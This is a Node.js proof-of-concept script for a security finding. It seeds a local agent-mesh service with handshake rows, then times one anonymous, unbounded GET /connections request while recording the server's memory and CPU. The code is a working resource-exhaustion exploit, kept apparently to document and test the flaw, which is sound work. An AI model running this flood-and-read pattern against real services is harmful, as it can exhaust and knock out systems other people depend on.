// PoC (finding H3-3): GET /connections without `limit` reads every connection row (SQL `LIMIT -1`), computes a
// trust score for each, and answers them in one res.json: no page, no byte bound. Rows are made by handshakes
// between agents anyone on loopback can register (each pair gives a new row per hour, decision 0061).
// usage: node test/attack-scripts/connections-unbounded.mjs <port> <pid> [agents=40] [concurrency=16]
// (seed with MESHSIG_RATE_LIMIT=0 to make rows fast; the read itself is one anonymous request)
import fs from 'node:fs'
const [port, pid, nAgents = '40', conc = '16'] = process.argv.slice(2)
const base = `http://127.0.0.1:${port}`
const st = () => fs.readFileSync(`/proc/${pid}/status`, 'utf8')
const rss = () => Number(/VmRSS:\s+(\d+)/.exec(st())[1]) / 1024
const hwm = () => Number(/VmHWM:\s+(\d+)/.exec(st())[1]) / 1024
const cpu = () => {
  const f = fs.readFileSync(`/proc/${pid}/stat`, 'utf8').split(') ')[1].split(' ')
  return (Number(f[11]) + Number(f[12])) / 100
}
async function post(path, body, bearer) {
  const r = await fetch(base + path, {
    method: 'POST',
    headers: { 'content-type': 'application/json', ...(bearer ? { authorization: `Bearer ${bearer}` } : {}) },
    body: JSON.stringify(body),
  })
  return { status: r.status, body: await r.json().catch(() => null) }
}
const agents = []
for (let i = 0; i < Number(nAgents); i++) {
  const r = await post('/agents/register', { name: `c${i}` })
  if (r.status === 201) agents.push(r.body.identity)
}
const pairs = []
for (const a of agents) for (const b of agents) if (a !== b) pairs.push([a, b])
let ok = 0,
  bad = {}
const t0 = Date.now()
await Promise.all(
  Array.from({ length: Number(conc) }, async () => {
    for (let p = pairs.pop(); p; p = pairs.pop()) {
      const r = await post('/handshake', { fromDid: p[0].did, toDid: p[1].did }, p[0].credential)
      if (r.status === 200 || r.status === 201) ok++
      else bad[r.status] = (bad[r.status] ?? 0) + 1
    }
  }),
)
console.log(`${agents.length} agents, ${ok} handshakes in ${((Date.now() - t0) / 1000).toFixed(0)} s, refused`, bad)
fs.writeFileSync(`/proc/${pid}/clear_refs`, '5')
const r0 = rss(),
  c0 = cpu(),
  t1 = performance.now()
const res = await fetch(base + '/connections') // anonymous, no limit
const text = await res.text()
const ms = performance.now() - t1
const j = JSON.parse(text)
console.log(
  `GET /connections (anonymous): ${res.status}, ${j.connections.length} rows of total ${j.total}, ${(text.length / 1048576).toFixed(1)} MiB, ${ms.toFixed(0)} ms, node cpu ${(cpu() - c0).toFixed(2)} s, RSS ${r0.toFixed(0)} -> peak ${hwm().toFixed(0)} MB`,
)
console.log(
  `per row: ${(text.length / j.connections.length).toFixed(0)} bytes, ${(ms / j.connections.length).toFixed(3)} ms`,
)
